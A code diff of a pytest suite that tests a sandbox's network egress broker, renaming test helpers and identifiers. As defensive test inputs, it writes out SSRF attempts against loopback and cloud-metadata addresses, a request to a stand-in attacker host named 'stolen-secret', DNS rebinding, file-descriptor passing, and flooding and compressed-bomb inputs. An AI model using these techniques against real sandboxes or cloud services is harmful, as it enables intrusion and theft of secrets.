@@ -1,4 +1,4 @@
-"""The sandbox's broker: every common client works through it, and nothing else can be reached."""
+"""Common HTTP clients work through the sandbox's broker. Code can connect only to the allowed hosts."""
 
 from __future__ import annotations
 
@@ -16,70 +16,70 @@ from apps.engine.failures import EngineError
 from apps.engine.sandbox.limits import LimitExceeded, Limits
 from apps.engine.sandbox.process import SandboxSite
 from apps.engine.sandbox.session import Callbacks, Request, Sandbox
-from tests.engine.sandbox import far_side, modes
-from tests.engine.sandbox.far_side import FarSide
-from tests.engine.sandbox.worlds import BOUND, SMALL
+from tests.engine.sandbox import modes, remote_server
+from tests.engine.sandbox.remote_server import RemoteServer
+from tests.engine.sandbox.worlds import SMALL_LIMITS, SOURCE_SETTINGS
 
-MODES = modes.available()
+MODES = modes.available_modes()
 
 
-def naive(host: str, port: int, *, allow_private: bool) -> list[str]:
-    """A broker without checks: with it the attacks below succeed."""
+def resolve_to_loopback(host: str, port: int, *, allow_private: bool) -> list[str]:
+    """Resolve every host to loopback, without checks. With this resolver the attacks below succeed."""
     return ["127.0.0.1"]
 
 
-class Trial:
-    """Code that fetches, the allowed hosts, and the reported connections."""
+class NetworkTrial:
+    """Run code that uses the network, and record its connections, requests and log lines."""
 
-    def __init__(self, ground: SandboxSite, port: int) -> None:
-        self.ground = ground
+    def __init__(self, site: SandboxSite, port: int) -> None:
+        self.site = site
         self.port = port
-        self.passages: list[ConnectionAttempt] = []
+        self.connections: list[ConnectionAttempt] = []
         self.requests: list[Request] = []
-        self.logged: list[str] = []
+        self.log_lines: list[str] = []
 
-    def fetch(
+    def run_code(
         self,
         body: str,
-        door: EgressLimits,
+        egress_limits: EgressLimits,
         *,
-        limits: Limits = SMALL,
-        before: str = "",
+        limits: Limits = SMALL_LIMITS,
+        preamble: str = "",
         **config: Any,
     ) -> list[Any]:
         code = (
-            f"{before}\nfrom drover import Page, Source\n\nclass Fetching(Source):\n    streams = ['attack']\n\n"
+            f"{preamble}\nfrom drover import Page, Source\n\nclass NetworkSource(Source):\n    streams = ['attack']\n\n"
             "    def get(self, pagination=None):\n"
             + textwrap.indent(textwrap.dedent(body), "        ")
         )
-        heard = Callbacks(
-            log=lambda level, message: self.logged.append(message),
+        callbacks = Callbacks(
+            log=lambda level, message: self.log_lines.append(message),
             request=self.requests.append,
-            connection=self.passages.append,
+            connection=self.connections.append,
         )
         with Sandbox(
-            code, site=self.ground, limits=limits, egress_limits=door, callbacks=heard
+            code, site=self.site, limits=limits, egress_limits=egress_limits, callbacks=callbacks
         ) as sandbox:
-            bound = {**BOUND, "config": {"port": self.port, **config}}
+            bound = {**SOURCE_SETTINGS, "config": {"port": self.port, **config}}
             return sandbox.call("page", bound=bound, pagination=None, since=None, limit=None).rows
 
-    def door(self, *hosts: str, **options: Any) -> EgressLimits:
+    def egress_limits(self, *hosts: str, **options: Any) -> EgressLimits:
         entries = tuple(f"{host}:{self.port}" if host != "*" else host for host in hosts)
         return EgressLimits(AllowList(entries), **options)
 
 
 @pytest.fixture
-def server() -> Iterator[FarSide]:
-    with far_side.serving() as made:
-        yield made
+def remote() -> Iterator[RemoteServer]:
+    with remote_server.run_server() as server:
+        yield server
 
 
 @pytest.fixture
-def trial(server: FarSide, ground: Callable[[str], SandboxSite]) -> Trial:
-    return Trial(ground(MODES[-1]), server.port)
+def trial(remote: RemoteServer, make_site: Callable[[str], SandboxSite]) -> NetworkTrial:
+    return NetworkTrial(make_site(MODES[-1]), remote.port)
 
 
-BENIGN = {
+USUAL_CODE = {
     "requests": """
         import requests
         session = requests.Session()
@@ -108,8 +108,8 @@ BENIGN = {
                 return (await client.post(url, content=b"x" * 3_000_000)).json()
         assert asyncio.run(upload()) == [{"received": 3_000_000}]
         import socket
-        one, other = socket.socketpair()
-        assert one.sendmsg([b"ab", b"c"]) == 3  # asyncio from Python 3.12 on
+        first, second = socket.socketpair()
+        assert first.sendmsg([b"ab", b"c"]) == 3  # as asyncio does from Python 3.12 on
         return Page([{"id": 1, "path": "/a"}])
     """,
     "urllib": """
@@ -126,7 +126,7 @@ BENIGN = {
         assert len(answers) == 24
         return Page(answers[0])
     """,
-    "its own session": """
+    "the session of the source": """
         return Page(self.session.get(f"http://shop.test:{self.config.port}/a").json())
     """,
     "files": """
@@ -135,15 +135,15 @@ BENIGN = {
             csv.writer(file).writerow(["1", "/a"])
             file.seek(0)
             row = next(csv.reader(file))
-        with zipfile.ZipFile("a.zip", "w") as made:
-            made.writestr("b", "c")
+        with zipfile.ZipFile("a.zip", "w") as archive:
+            archive.writestr("b", "c")
         import os, pathlib, shutil, tarfile
         shutil.copy2("a.zip", "copied.zip")
         shutil.copytree(os.path.dirname(json.__file__), "tree")
-        with tarfile.open("a.tar", "w") as made:
-            made.add("tree")
-        with tarfile.open("a.tar") as made:
-            made.extractall("out")
+        with tarfile.open("a.tar", "w") as archive:
+            archive.add("tree")
+        with tarfile.open("a.tar") as archive:
+            archive.extractall("out")
         pathlib.Path("a.zip").chmod(0o600)
         pathlib.Path("a.zip").touch()
         base = sqlite3.connect("base.db")
@@ -153,59 +153,71 @@ BENIGN = {
 }
 
 
-@pytest.mark.parametrize(("name", "mode"), modes.spread(BENIGN, whole=modes.USUAL[:1]))
-def test_what_sources_usually_do_works(
-    name: str, mode: str, server: FarSide, ground: Callable[[str], SandboxSite]
+@pytest.mark.parametrize(
+    ("name", "mode"), modes.case_params(USUAL_CODE, full_modes=modes.USUAL_MODES[:1])
+)
+def test_usual_code_of_sources_works(
+    name: str, mode: str, remote: RemoteServer, make_site: Callable[[str], SandboxSite]
 ) -> None:
-    trial = Trial(ground(mode), server.port)
-    door = trial.door("shop.test", resolve=naive)
-    assert trial.fetch(BENIGN[name], door) == [{"id": 1, "path": "/a"}]
+    trial = NetworkTrial(make_site(mode), remote.port)
+    egress_limits = trial.egress_limits("shop.test", resolve=resolve_to_loopback)
+    assert trial.run_code(USUAL_CODE[name], egress_limits) == [{"id": 1, "path": "/a"}]
 
 
-def test_a_large_page_comes_whole(trial: Trial) -> None:
+def test_a_large_page_arrives_complete(trial: NetworkTrial) -> None:
     body = """
         return Page(self.session.get(f"http://shop.test:{self.config.port}/large").json())
     """
-    door = trial.door("shop.test", resolve=naive)
-    assert len(trial.fetch(body, door)) == far_side.LARGE // 1000
+    egress_limits = trial.egress_limits("shop.test", resolve=resolve_to_loopback)
+    assert len(trial.run_code(body, egress_limits)) == remote_server.LARGE_PAGE_BYTES // 1000
 
 
-def test_tls_stays_between_the_code_and_the_far_side(
-    ground: Callable[[str], SandboxSite], tmp_path: Path
+def test_code_verifies_the_tls_certificate_of_the_server(
+    make_site: Callable[[str], SandboxSite], tmp_path: Path
 ) -> None:
-    authority = far_side.certificate_for("shop.test", tmp_path / "shop.pem")
+    authority = remote_server.write_certificate("shop.test", tmp_path / "shop.pem")
     body = """
         import requests
         open("ca.pem", "w").write(self.config.authority)
         return Page(requests.get(f"https://shop.test:{self.config.port}/a", verify="ca.pem").json())
     """
-    with far_side.serving(tmp_path / "shop.pem") as server:
-        trial = Trial(ground(MODES[0]), server.port)
-        door = trial.door("shop.test", resolve=naive)
-        assert trial.fetch(body, door, authority=authority) == [{"id": 1, "path": "/a"}]
+    with remote_server.run_server(tmp_path / "shop.pem") as remote:
+        trial = NetworkTrial(make_site(MODES[0]), remote.port)
+        egress_limits = trial.egress_limits("shop.test", resolve=resolve_to_loopback)
+        assert trial.run_code(body, egress_limits, authority=authority) == [{"id": 1, "path": "/a"}]
         with pytest.raises(EngineError, match=r"SSL|certificate"):
-            trial.fetch(body, door, authority=_another_authority(tmp_path))
+            trial.run_code(body, egress_limits, authority=_other_certificate(tmp_path))
 
 
-def _another_authority(folder: Path) -> str:
-    return far_side.certificate_for("shop.test", folder / "other.pem")
+def _other_certificate(folder: Path) -> str:
+    return remote_server.write_certificate("shop.test", folder / "other.pem")
 
 
-def test_requests_and_connections_are_reported(trial: Trial) -> None:
-    trial.fetch(BENIGN["requests"], trial.door("shop.test", resolve=naive))
+def test_requests_and_connections_are_reported(trial: NetworkTrial) -> None:
+    trial.run_code(
+        USUAL_CODE["requests"], trial.egress_limits("shop.test", resolve=resolve_to_loopback)
+    )
     assert [(r.method, r.status) for r in trial.requests] == [("GET", 200)] * 3
     assert trial.requests[0].url == f"http://shop.test:{trial.port}/a"
-    opened, passage = trial.passages  # one connection, kept alive
-    assert opened is passage
-    assert passage.closed
-    assert (passage.host, passage.port, passage.address) == ("shop.test", trial.port, "127.0.0.1")
-    assert passage.received > 0
-    assert passage.sent > 0
+    opened, connection = trial.connections  # reported when opened and when closed
+    assert opened is connection
+    assert connection.closed
+    assert (connection.host, connection.port, connection.address) == (
+        "shop.test",
+        trial.port,
+        "127.0.0.1",
+    )
+    assert connection.received > 0
+    assert connection.sent > 0
 
 
-@pytest.mark.parametrize("before", ["", "import httpx"])
-def test_requests_of_httpx_are_reported_too(before: str, trial: Trial) -> None:
-    trial.fetch(BENIGN["httpx"], trial.door("shop.test", resolve=naive), before=before)
+@pytest.mark.parametrize("preamble", ["", "import httpx"])
+def test_requests_of_httpx_are_reported(preamble: str, trial: NetworkTrial) -> None:
+    trial.run_code(
+        USUAL_CODE["httpx"],
+        trial.egress_limits("shop.test", resolve=resolve_to_loopback),
+        preamble=preamble,
+    )
     assert [(r.method, r.url, r.status) for r in trial.requests] == [
         ("GET", f"http://shop.test:{trial.port}/a", 200)
     ]
@@ -214,25 +226,25 @@ def test_requests_of_httpx_are_reported_too(before: str, trial: Trial) -> None:
 # Connections that must be refused.
 
 
-FETCH = """
+FETCH_URL = """
     import requests
     answer = requests.get(self.config.url, timeout=5)
     return Page([{"won": answer.status_code}])
 """
 
-FETCH_EACH = """
+FETCH_HOSTS = """
     import requests
-    said = {}
+    results = {}
     for host in self.config.hosts:
         try:
-            said[host] = requests.get(f"http://{host}:{self.config.port}/", timeout=5).status_code
+            results[host] = requests.get(f"http://{host}:{self.config.port}/", timeout=5).status_code
         except OSError as error:
-            said[host] = str(error)
-    return Page([said])
+            results[host] = str(error)
+    return Page([results])
 """
 
-# Each leads to loopback or to a metadata address; every one is on the allow-list, if it is valid there.
-SPELLINGS = [
+# Spellings of loopback, private and metadata addresses. The tests add each valid one to the allow-list.
+INTERNAL_HOSTS = [
     "127.0.0.1",
     "localhost",
     "2130706433",
@@ -253,79 +265,93 @@ SPELLINGS = [
 ]
 
 
-def test_an_address_inside_is_refused_however_it_is_spelled(trial: Trial, server: FarSide) -> None:
-    hosts = [form for host in SPELLINGS for form in (host, host.strip("[]"))]
-    (said,) = trial.fetch(
-        FETCH_EACH,
+def test_every_spelling_of_an_internal_address_is_refused(
+    trial: NetworkTrial, remote: RemoteServer
+) -> None:
+    hosts = [form for host in INTERNAL_HOSTS for form in (host, host.strip("[]"))]
+    (results,) = trial.run_code(
+        FETCH_HOSTS,
         EgressLimits(AllowList(tuple(f"{h}:{trial.port}" for h in hosts))),
-        hosts=SPELLINGS,
+        hosts=INTERNAL_HOSTS,
     )
-    assert [host for host in SPELLINGS if " refused" not in str(said[host])] == []
-    assert all(passage.refused for passage in trial.passages)
-    assert server.seen == []
+    assert [host for host in INTERNAL_HOSTS if " refused" not in str(results[host])] == []
+    assert all(connection.refused for connection in trial.connections)
+    assert remote.requests_received == []
 
 
-def test_against_a_broker_that_checks_nothing_they_win(trial: Trial, server: FarSide) -> None:
+def test_internal_addresses_are_reached_if_the_broker_checks_nothing(
+    trial: NetworkTrial, remote: RemoteServer
+) -> None:
     hosts = ["localhost", "127.0.0.1", "metadata.google.internal", "10.9.9.9"]
-    (said,) = trial.fetch(FETCH_EACH, trial.door(*hosts, resolve=naive), hosts=hosts)
-    assert said == dict.fromkeys(hosts, 200)
-    assert server.seen == ["/"] * len(hosts)
+    (results,) = trial.run_code(
+        FETCH_HOSTS, trial.egress_limits(*hosts, resolve=resolve_to_loopback), hosts=hosts
+    )
+    assert results == dict.fromkeys(hosts, 200)
+    assert remote.requests_received == ["/"] * len(hosts)
 
 
-def test_a_host_that_is_not_listed_is_refused_before_dns_is_asked(trial: Trial) -> None:
-    asked: list[str] = []
+def test_a_host_that_is_not_listed_is_refused_without_a_dns_query(trial: NetworkTrial) -> None:
+    resolved_hosts: list[str] = []
 
     def resolve(host: str, port: int, *, allow_private: bool) -> list[str]:
-        asked.append(host)
+        resolved_hosts.append(host)
         return ["127.0.0.1"]
 
     url = f"http://stolen-secret.attacker.test:{trial.port}/"
     with pytest.raises(EngineError, match="not on the source's allow-list"):
-        trial.fetch(FETCH, trial.door("shop.test", resolve=resolve), url=url)
-    assert asked == []
-    trial.fetch(FETCH, trial.door("stolen-secret.attacker.test", resolve=resolve), url=url)
-    assert asked == ["stolen-secret.attacker.test"]
+        trial.run_code(FETCH_URL, trial.egress_limits("shop.test", resolve=resolve), url=url)
+    assert resolved_hosts == []
+    trial.run_code(
+        FETCH_URL, trial.egress_limits("stolen-secret.attacker.test", resolve=resolve), url=url
+    )
+    assert resolved_hosts == ["stolen-secret.attacker.test"]
 
 
-def test_a_name_that_answers_differently_the_second_time_gains_nothing(
-    trial: Trial, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """DNS rebinding: the checked address is the one that is connected to, so there is no second query."""
+def test_a_host_is_resolved_only_once(trial: NetworkTrial, monkeypatch: pytest.MonkeyPatch) -> None:
+    """DNS rebinding fails, because the broker connects to the checked address and sends no second query."""
     from apps.egress import policy
 
     answers = iter([["93.184.216.34"], ["127.0.0.1"]])
-    asked: list[str] = []
+    resolved_hosts: list[str] = []
 
     def resolve(name: str, port: int) -> list[str]:
-        asked.append(name)
+        resolved_hosts.append(name)
         return next(answers)
 
     monkeypatch.setattr(policy, "resolve", resolve)
-    connected: list[str] = []
+    connected_addresses: list[str] = []
 
-    async def connect(addresses: list[str], passage: ConnectionAttempt) -> None:
-        connected.extend(addresses)
+    async def connect(addresses: list[str], connection: ConnectionAttempt) -> None:
+        connected_addresses.extend(addresses)
 
     from apps.egress import broker
 
     monkeypatch.setattr(broker, "_connect", connect)
     with pytest.raises(EngineError, match="no address accepts"):
-        trial.fetch(FETCH, trial.door("rebinding.test"), url=f"http://rebinding.test:{trial.port}/")
-    assert asked == ["rebinding.test"]
-    assert connected == ["93.184.216.34"]
+        trial.run_code(
+            FETCH_URL,
+            trial.egress_limits("rebinding.test"),
+            url=f"http://rebinding.test:{trial.port}/",
+        )
+    assert resolved_hosts == ["rebinding.test"]
+    assert connected_addresses == ["93.184.216.34"]
 
 
 def test_one_private_answer_among_public_ones_refuses_the_name(
-    trial: Trial, monkeypatch: pytest.MonkeyPatch
+    trial: NetworkTrial, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     from apps.egress import policy
 
     monkeypatch.setattr(policy, "resolve", lambda name, port: ["93.184.216.34", "127.0.0.1"])
     with pytest.raises(EngineError, match="not a public address"):
-        trial.fetch(FETCH, trial.door("mixed.test"), url=f"http://mixed.test:{trial.port}/")
+        trial.run_code(
+            FETCH_URL, trial.egress_limits("mixed.test"), url=f"http://mixed.test:{trial.port}/"
+        )
 
 
-def test_a_redirect_inside_is_judged_like_any_other(trial: Trial, server: FarSide) -> None:
+def test_a_redirect_to_an_internal_address_is_refused(
+    trial: NetworkTrial, remote: RemoteServer
+) -> None:
     inside = f"http://169.254.169.254:{trial.port}/latest/meta-data"
     url = f"http://shop.test:{trial.port}/redirect?to={inside}"
 
@@ -335,22 +361,28 @@ def test_a_redirect_inside_is_judged_like_any_other(trial: Trial, server: FarSid
         return ["127.0.0.1"] if host == "shop.test" else check_host(host, port, allow_private=False)
 
     with pytest.raises(EngineError, match="metadata address"):
-        trial.fetch(FETCH, trial.door("shop.test", "169.254.169.254", resolve=resolve), url=url)
+        trial.run_code(
+            FETCH_URL, trial.egress_limits("shop.test", "169.254.169.254", resolve=resolve), url=url
+        )
     with pytest.raises(EngineError, match="allow-list"):
-        trial.fetch(FETCH, trial.door("shop.test", resolve=naive), url=url)
-    assert trial.fetch(
-        FETCH, trial.door("shop.test", "169.254.169.254", resolve=naive), url=url
+        trial.run_code(
+            FETCH_URL, trial.egress_limits("shop.test", resolve=resolve_to_loopback), url=url
+        )
+    assert trial.run_code(
+        FETCH_URL,
+        trial.egress_limits("shop.test", "169.254.169.254", resolve=resolve_to_loopback),
+        url=url,
     ) == [{"won": 200}]
-    assert server.seen[-1] == "/latest/meta-data"
+    assert remote.requests_received[-1] == "/latest/meta-data"
 
 
-def test_another_port_of_a_listed_host_is_refused(trial: Trial) -> None:
-    door = EgressLimits(AllowList(("shop.test",)), resolve=naive)
+def test_another_port_of_a_listed_host_is_refused(trial: NetworkTrial) -> None:
+    egress_limits = EgressLimits(AllowList(("shop.test",)), resolve=resolve_to_loopback)
     with pytest.raises(EngineError, match="allow-list"):
-        trial.fetch(FETCH, door, url=f"http://shop.test:{trial.port}/")
+        trial.run_code(FETCH_URL, egress_limits, url=f"http://shop.test:{trial.port}/")
 
 
-def test_code_that_bypasses_the_shim_uses_the_same_broker(trial: Trial) -> None:
+def test_code_that_bypasses_the_shim_uses_the_same_broker(trial: NetworkTrial) -> None:
     body = """
         import json
         from drover import _sockets
@@ -359,77 +391,77 @@ def test_code_that_bypasses_the_shim_uses_the_same_broker(trial: Trial) -> None:
         _sockets._broker.sendall(json.dumps({"host": "127.0.0.1", "port": self.config.port}).encode())
         return Page([{"answer": json.loads(_sockets._broker.recv(4096))}])
     """
-    rows = trial.fetch(body, trial.door("shop.test", "127.0.0.1"))
+    rows = trial.run_code(body, trial.egress_limits("shop.test", "127.0.0.1"))
     assert "refused" in rows[0]["answer"]
 
 
-def test_questions_that_are_none_are_refused(trial: Trial) -> None:
+def test_invalid_requests_to_the_broker_are_refused(trial: NetworkTrial) -> None:
     body = """
         import json
         from drover import _sockets
         answers = []
-        for question in (b"", b"garbage", b"[]", b"{}", b'{"host":1,"port":2}', b'{"host":"a","port":true}',
-                         b'{"host":"' + b"a" * 2000 + b'","port":1}', b"[" * 2000, b'{"host":"a","port":65536}'):
-            if not question:
+        for request in (b"", b"garbage", b"[]", b"{}", b'{"host":1,"port":2}', b'{"host":"a","port":true}',
+                        b'{"host":"' + b"a" * 2000 + b'","port":1}', b"[" * 2000, b'{"host":"a","port":65536}'):
+            if not request:
                 continue
-            _sockets._broker.sendall(question)
+            _sockets._broker.sendall(request)
             answers.append(json.loads(_sockets._broker.recv(4096)))
         return Page([{"answers": answers}])
     """
-    rows = trial.fetch(body, trial.door("shop.test"))
+    rows = trial.run_code(body, trial.egress_limits("shop.test"))
     assert rows == [{"answers": [{"refused": "not a valid request"}] * 8}]
 
 
-def test_descriptors_cannot_be_passed(trial: Trial) -> None:
-    """Not even to the broker, so that replacing its socket achieves nothing."""
+def test_code_cannot_pass_descriptors(trial: NetworkTrial) -> None:
+    """Code cannot pass them to the broker either, so it gains nothing if it replaces the broker's socket."""
     body = """
         import _socket, array, os
         from drover import _sockets
         control = _sockets._broker.detach()
-        one, other = _socket.socketpair()
+        first, second = _socket.socketpair()
         won = []
 
-        def hand_over(place, fd):
-            made = _socket.socket(fileno=fd)
+        def pass_descriptor(place, fd):
+            target = _socket.socket(fileno=fd)
             rights = (_socket.SOL_SOCKET, _socket.SCM_RIGHTS, array.array("i", [1]))
             try:
-                made.sendmsg([b"x"], [rights])
+                target.sendmsg([b"x"], [rights])
                 won.append(place)
             except PermissionError:
-                made.detach()
+                target.detach()
 
-        hand_over("a socket of its own", one.fileno())
-        hand_over("the broker", control)
-        os.dup2(one.fileno(), control)
-        hand_over("in the place of the broker", control)
+        pass_descriptor("a socket of its own", first.fileno())
+        pass_descriptor("the broker", control)
+        os.dup2(first.fileno(), control)
+        pass_descriptor("in the place of the broker", control)
         os.close(control)
-        os.dup2(one.fileno(), control)
-        hand_over("in the place of the broker, which was closed", control)
+        os.dup2(first.fileno(), control)
+        pass_descriptor("in the place of the broker, which was closed", control)
         return Page([{"won": won}])
     """
-    assert trial.fetch(body, trial.door("shop.test")) == [{"won": []}]
+    assert trial.run_code(body, trial.egress_limits("shop.test")) == [{"won": []}]
 
 
-def test_a_handed_over_socket_leads_nowhere_else(trial: Trial) -> None:
+def test_a_connected_socket_cannot_connect_elsewhere(trial: NetworkTrial) -> None:
     body = """
         import socket, _socket
-        made = socket.create_connection(("shop.test", self.config.port))
-        tried = []
-        raw = _socket.socket(fileno=made.detach())
+        connected = socket.create_connection(("shop.test", self.config.port))
+        results = []
+        raw = _socket.socket(fileno=connected.detach())
         for attempt in (lambda: raw.connect("/tmp/x"), lambda: raw.sendto(b"x", "/tmp/x"),
                         lambda: raw.bind("/tmp/y")):
             try:
                 attempt()
-                tried.append("won")
+                results.append("won")
             except OSError as error:
-                tried.append(type(error).__name__)
-        return Page([{"tried": tried}])
+                results.append(type(error).__name__)
+        return Page([{"results": results}])
     """
-    rows = trial.fetch(body, trial.door("shop.test", resolve=naive))
-    assert "won" not in rows[0]["tried"]
+    rows = trial.run_code(body, trial.egress_limits("shop.test", resolve=resolve_to_loopback))
+    assert "won" not in rows[0]["results"]
 
 
-def test_too_many_connections_end_the_code(trial: Trial) -> None:
+def test_too_many_connections_end_the_code(trial: NetworkTrial) -> None:
     body = """
         import json
         from drover import _sockets
@@ -438,10 +470,10 @@ def test_too_many_connections_end_the_code(trial: Trial) -> None:
             _sockets._broker.recv(4096)
     """
     with pytest.raises(LimitExceeded, match="more than 500 connections"):
-        trial.fetch(body, trial.door("shop.test", max_connections=500))
+        trial.run_code(body, trial.egress_limits("shop.test", max_connections=500))
 
 
-def test_a_flooded_control_channel_does_no_harm(trial: Trial) -> None:
+def test_the_broker_still_works_after_code_flooded_it(trial: NetworkTrial) -> None:
     body = """
         from drover import _sockets
         _sockets._broker.setblocking(True)
@@ -449,47 +481,53 @@ def test_a_flooded_control_channel_does_no_harm(trial: Trial) -> None:
             _sockets._broker.send(b"x" * 100)
         return Page([{"flooded": True}])
     """
-    limits = replace(SMALL, silence_seconds=2)
-    door = trial.door("shop.test", max_connections=100)
-    ended = _outcome(lambda: trial.fetch(body, door, limits=limits))
-    assert ended in ("flooded", "LimitExceeded", "TookTooLong")
-    body = BENIGN["requests"]
-    assert trial.fetch(body, trial.door("shop.test", resolve=naive)) == [{"id": 1, "path": "/a"}]
+    limits = replace(SMALL_LIMITS, silence_seconds=2)
+    egress_limits = trial.egress_limits("shop.test", max_connections=100)
+    outcome = _outcome(lambda: trial.run_code(body, egress_limits, limits=limits))
+    assert outcome in ("flooded", "LimitExceeded", "TookTooLong")
+    body = USUAL_CODE["requests"]
+    assert trial.run_code(body, trial.egress_limits("shop.test", resolve=resolve_to_loopback)) == [
+        {"id": 1, "path": "/a"}
+    ]
 
 
-def _outcome(fetch: Callable[[], list[Any]]) -> str:
+def _outcome(run_code: Callable[[], list[Any]]) -> str:
     try:
-        return "flooded" if fetch() == [{"flooded": True}] else "something else"
+        return "flooded" if run_code() == [{"flooded": True}] else "unexpected rows"
     except EngineError as error:
         return type(error).__name__
 
 
-def test_too_many_bytes_end_the_code(trial: Trial) -> None:
+def test_too_many_bytes_end_the_code(trial: NetworkTrial) -> None:
     body = """
         for _ in range(100):
             self.session.post(f"http://shop.test:{self.config.port}/in", data=b"x" * 1_000_000)
         return Page([])
     """
-    door = trial.door("shop.test", resolve=naive, max_bytes=5_000_000)
+    egress_limits = trial.egress_limits(
+        "shop.test", resolve=resolve_to_loopback, max_bytes=5_000_000
+    )
     with pytest.raises((LimitExceeded, EngineError), match=r"bytes over the network|Connection"):
-        trial.fetch(body, door)
-    assert sum({id(p): p.sent for p in trial.passages}.values()) < 8_000_000
+        trial.run_code(body, egress_limits)
+    assert sum({id(p): p.sent for p in trial.connections}.values()) < 8_000_000
 
 
-def test_a_compressed_bomb_meets_the_memory_limit(trial: Trial) -> None:
+def test_a_compressed_bomb_exceeds_the_memory_limit(trial: NetworkTrial) -> None:
     body = """
         return Page(self.session.get(f"http://shop.test:{self.config.port}/bomb").json())
     """
-    limits = replace(SMALL, memory=256 << 20)
+    limits = replace(SMALL_LIMITS, memory=256 << 20)
     with pytest.raises(LimitExceeded, match="memory"):
-        trial.fetch(body, trial.door("shop.test", resolve=naive), limits=limits)
+        trial.run_code(
+            body, trial.egress_limits("shop.test", resolve=resolve_to_loopback), limits=limits
+        )
 
 
-def test_without_a_broker_there_is_no_network(ground: Callable[[str], SandboxSite]) -> None:
+def test_without_a_broker_there_is_no_network(make_site: Callable[[str], SandboxSite]) -> None:
     code = "import requests\nfrom drover import Page, Source\n\nclass S(Source):\n    streams = ['a']\n"
     code += "    def get(self, pagination=None):\n        return Page(requests.get('http://shop.test').json())\n"
     with (
-        Sandbox(code, site=ground(MODES[0]), limits=SMALL) as sandbox,
+        Sandbox(code, site=make_site(MODES[0]), limits=SMALL_LIMITS) as sandbox,
         pytest.raises(EngineError, match="no network"),
     ):
-        sandbox.call("page", bound=BOUND, pagination=None, since=None, limit=None)
+        sandbox.call("page", bound=SOURCE_SETTINGS, pagination=None, since=None, limit=None)
